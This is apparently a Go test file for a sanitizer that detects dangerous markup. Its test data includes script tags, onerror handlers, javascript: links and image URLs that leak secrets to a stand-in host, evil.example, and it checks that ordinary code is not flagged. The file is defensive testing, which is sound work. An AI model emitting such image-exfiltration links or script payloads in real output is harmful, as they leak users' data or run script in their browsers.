package markup_test

import (
	"context"
	"strings"
	"testing"

	"ostiary/sanitize"
	"ostiary/sanitize/markup"
)

func detect(s, contentType string) []sanitize.Match {
	return markup.New().Detect(context.Background(), sanitize.NewInput(s, "", contentType))
}

// Covers: A14
func TestWhatRunsOrLoadsIsDefused(t *testing.T) {
	for _, c := range []struct{ kind, contentType, in string }{
		{"active_element", "text/html", "<p>x</p><script src=a.js>"},
		{"active_element", "", "<!DOCTYPE html><html><iframe src=x>"},
		{"event_handler", "text/html", `<img alt=x onerror="y()">`},
		{"script_url", "text/html", "<a href=' java\nscript:x()'>y</a>"},
		{"script_url", "text/markdown", "[a](javascript:alert(1))"},
		{"script_url", "", "[a][b]\n\n[b]: javascript:alert(1)\n"},
		{"image_exfiltration", "", "![a](https://evil.example/x?d=[SECRET])"},
		{"image_exfiltration", "", "![a][b]\n\n[b]: https://evil.example/x?d=aGVsbG8gdGhlcmUgZnJpZW5kIQ\n"},
		{"image_exfiltration", "text/html", `<img src="https://evil.example/x?d={data}">`},
	} {
		if m := detect(c.in, c.contentType); len(m) == 0 || m[0].Type != c.kind {
			t.Errorf("%s in %q: %v", c.kind, c.in, m)
		}
	}
}

// Covers: A14
func TestCodeAndPlainTextStay(t *testing.T) {
	for _, s := range []string{
		`html := "<script>" + x + "</script>"`, "if a < b && c > d {", "```html\n<img onerror=x src=y>\n```",
		"`[a](javascript:x)` is how it looks", "![build](https://ci.example/badge.svg?branch=main)", "[docs](https://h.example/a?b=c)",
		"a[i](x)", "<button onClick={save}>Save</button>",
	} {
		if m := detect(s, ""); len(m) > 0 {
			t.Errorf("%q: %v", s, m)
		}
	}
	if m := detect("<script>", "text/javascript"); len(m) > 0 {
		t.Errorf("JavaScript: %v", m)
	}
}

func FuzzDetect(f *testing.F) {
	for _, s := range []string{"<a onx=", "![](http://{", "[a]: javascript:x", "<script"} {
		f.Add(s, true)
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, s string, html bool) {
		s = strings.ToValidUTF8(s, "?")
		contentType := "text/markdown"
		if html {
			contentType = "text/html"
		}
		for _, m := range detect(s, contentType) {
			if m.Start < 0 || m.End > len(s) || m.Start >= m.End {
				t.Errorf("%q: %d:%d", s, m.Start, m.End)
			}
		}
	})
}
